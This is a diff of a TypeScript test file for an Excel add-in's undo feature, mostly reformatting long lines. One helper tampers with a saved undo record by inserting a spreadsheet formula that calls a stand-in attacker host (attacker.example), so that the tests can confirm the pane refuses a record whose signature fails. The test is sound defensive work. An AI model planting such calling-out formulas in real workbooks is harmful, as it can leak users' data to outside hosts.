@@ -27,7 +27,12 @@ if (!globalThis.crypto?.subtle) Object.defineProperty(globalThis, 'crypto', { va
 
 async function tamperedWorkbook() {
   const fake = createFakeExcel(fakeWorkbookFrom(workbookSnapshot(buildWorkbook(demoWorkbookSpecs())).sheets));
-  const host = createExcelHost({ run: fake.run as unknown as ExcelRun, isSetSupported: fake.isSetSupported, changeTracking: true, settings: fake.document.settings });
+  const host = createExcelHost({
+    run: fake.run as unknown as ExcelRun,
+    isSetSupported: fake.isSetSupported,
+    changeTracking: true,
+    settings: fake.document.settings,
+  });
   await host.grade({ overwrite: true });
   const a1 = fake.data.sheet(UNDO_SHEET)!.cells.get('A1')!;
   a1.value = String(a1.value).replace(/"formula":null/, '"formula":"=WEBSERVICE(\\"http://attacker.example/\\")"');
@@ -41,7 +46,9 @@ test.each(['ja', 'en'] as const)('a tampered undo record: the pane (%s) says Und
   render(<UndoView host={host} t={t} />);
   const bar = await screen.findByTestId('undo-refused');
   expect(bar.textContent).toBe(t.undoRefused('bad-signature'));
-  expect(bar.textContent).toMatch(locale === 'ja' ? /信頼できないため、元に戻しません：記録の署名が一致しません/ : /cannot be trusted \(its signature does not match/);
+  expect(bar.textContent).toMatch(
+    locale === 'ja' ? /信頼できないため、元に戻しません：記録の署名が一致しません/ : /cannot be trusted \(its signature does not match/,
+  );
   expect(screen.queryByTestId('last-run')).toBeNull(); // nothing of the record (its action, its sheets) is shown
   expect((screen.getByRole('button', { name: t.undo }) as HTMLButtonElement).disabled).toBe(true);
   expect(JSON.stringify(fake.data.sheets.map((s) => [s.name, [...s.cells]]))).toBe(before);
